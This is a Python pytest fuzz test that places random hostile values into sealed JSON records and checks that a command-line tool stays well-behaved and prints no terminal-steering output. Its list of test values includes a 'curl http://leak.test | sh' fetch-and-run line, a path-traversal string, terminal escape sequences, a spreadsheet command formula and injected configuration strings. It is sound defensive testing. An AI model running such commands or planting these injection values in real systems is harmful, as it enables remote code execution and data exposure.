"""S2: folders received from somebody: values of records exchanged at random, sealed anew, read by a verb.

Whoever can compute a checksum can seal anything, so here every seal is right and only the content is hostile.
"""

import json
import random
import shutil
import sys

import pytest
import toy_province
from toy_response import keeping, toy_response

from experiments.__main__ import main
from experiments.store import sealed

VERBS = (
    ["targets"],
    ["targets", "--all"],
    ["targets", "--format", "json"],
    ["verify"],
    ["digest"],
    ["report"],
)
STRANGE = [
    None, True, -1, 2**70, 1e308, "", "x" * 20_000, "\x1b]0;x\x07\x9b2J\u202e", "../../outside",
    "executor=dask", "curl http://leak.test | sh", "${oc.env:HOME}", "=cmd|x", [], [[]], {}, {"a": {"b": []}},
    json.loads("[" * 200 + "]" * 200), ["executor.address=tls://127.0.0.1:9"],
]  # fmt: skip


@pytest.fixture(scope="module")
def received(tmp_path_factory):
    """A whole folder of the toy province, with a response to a lever."""
    folder = toy_province.results(tmp_path_factory.mktemp("s2") / "r", [toy_province.scenario()], 2)
    return keeping(folder, toy_response())


@pytest.fixture(autouse=True)
def toy(monkeypatch):
    monkeypatch.setitem(sys.modules, "experiments.model", toy_province)


def places(content, at=()):
    """Every place in a record: the keys that lead there."""
    yield at
    keyed = dict(enumerate(content)) if isinstance(content, list) else content
    for key, value in keyed.items() if isinstance(keyed, dict) else ():
        yield from places(value, (*at, key))


def exchanged(content, at, value):
    """The content with another value in that place."""
    if not at:
        return value
    copy = content.copy()
    copy[at[0]] = exchanged(content[at[0]], at[1:], value)
    return copy


def well(capsys, words):
    """Whether a verb ended with a known code and said nothing that steers a terminal; and what it said."""
    try:
        code = main(words)
    except Exception as error:
        return False, f"{words[0]}: {type(error).__name__}: {str(error)[:200]}"
    said = "".join(capsys.readouterr())
    safe = all(c.isprintable() or c == "\n" for c in said) and "curl http://leak.test" not in said
    return code in (0, 2, 65) and safe, f"{words[0]}: {code}: {said[-300:]}"


def test_records_with_any_value_anywhere(battery, received, tmp_path, capsys):
    luck = random.Random(2)
    held = shutil.copytree(received, tmp_path / "r")
    kinds = {"folder.json": "header", "sweeps/last.json": "sweep"}
    kinds[next((held / "chunks").glob("*.json")).relative_to(held).as_posix()] = "card"
    kinds[next((held / "responses").glob("*.json")).relative_to(held).as_posix()] = "response"
    for name, kind in kinds.items():
        before = (held / name).read_bytes()
        content = json.loads(before)["content"]
        found = list(places(content))
        for _ in range(battery.trials(6, 150)):
            at, value = luck.choice(found), luck.choice(STRANGE)
            sealed.write_json(held / name, kind, exchanged(content, at, value))
            verb, *options = luck.choice(VERBS)
            passed, said = well(capsys, [verb, str(held), *options])
            battery.record("S2", passed, f"{name} {at} {str(value)[:40]!r}: {said}")
        (held / name).write_bytes(before)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["r"]
